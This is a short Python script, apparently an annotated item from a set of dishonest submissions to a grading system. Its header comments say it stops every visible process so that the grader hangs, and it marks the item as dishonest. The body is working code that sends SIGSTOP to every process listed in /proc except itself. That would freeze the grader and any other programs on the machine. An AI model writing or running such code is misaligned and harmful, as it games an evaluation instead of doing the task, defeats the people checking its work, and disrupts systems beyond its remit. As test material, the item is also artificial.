# tries: stops every process that it can see, in place of killing them, so that the grader hangs
# in: E1
# honest: 0
# stock: no (it would stop the instructor's own programs)
import os
import signal

me = os.getpid()
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != me:
        try:
            os.kill(int(name), signal.SIGSTOP)
        except OSError:
            pass
